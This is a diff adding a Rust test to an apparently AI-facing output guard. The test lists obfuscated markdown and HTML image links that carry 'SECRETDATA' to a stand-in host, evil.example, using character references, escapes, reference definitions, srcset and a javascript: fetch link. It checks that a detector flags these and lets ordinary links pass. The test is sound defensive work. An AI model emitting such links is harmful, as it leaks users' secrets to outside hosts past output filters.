@@ -2760,3 +2760,35 @@ fn review_evasions_are_caught() {
         Guarded::Pass { output, .. } => panic!("passed at {} bytes", json_size(&output)),
     }
 }
+
+/// Links as renderers read them (a review's findings): character
+/// references and backslash escapes in the URL, a `>` in it, definitions
+/// in angle brackets, block quotes and list items, `srcset` and a
+/// `javascript:` scheme in any case. Ordinary links stay. (Autolinks,
+/// `<https://…>`, are not read: they need a click, and long documentation
+/// URLs in them read as data.)
+#[test]
+fn links_written_the_ways_renderers_read_them_are_found() {
+    for text in [
+        "![a](https://evil.example/?q=&#83;ECRETDATA1234567890)",
+        "![a](https://evil.example/&#63;q=SECRETDATA1234567890)",
+        "![a](https://evil.example/?q&#61;SECRETDATA1234567890)",
+        "![a](https&#58;//evil.example/?q=SECRETDATA1234567890)",
+        "![a](https\\://evil.example/?q=SECRETDATA1234567890)",
+        "![a](https://evil.example/?q=>SECRETDATA1234567890)",
+        "<img src=\"https://evil.example/&#63;q=SECRETDATA1234567890\">",
+        "<img srcset=\"https://evil.example/?q=SECRETDATA1234567890 1x\">",
+        "Intro.\n\n[1]: <https://evil.example/?q=SECRETDATA1234567890>\n\n![a][1]",
+        "> [1]: https://evil.example/?q=SECRETDATA1234567890\n\n![a][1]",
+        "- [1]: https://evil.example/?q=SECRETDATA1234567890\n\n![a][1]",
+        "[x](JavaScript:fetch(1))",
+    ] {
+        hits(text, "exfiltration.markdown-url");
+    }
+    for text in [
+        "See [the docs](https://docs.rs/regex/latest/regex/) and <https://example.com/>.",
+        "Tom &amp; Jerry at [the site](https://example.com/tom-and-jerry).",
+    ] {
+        misses(text);
+    }
+}
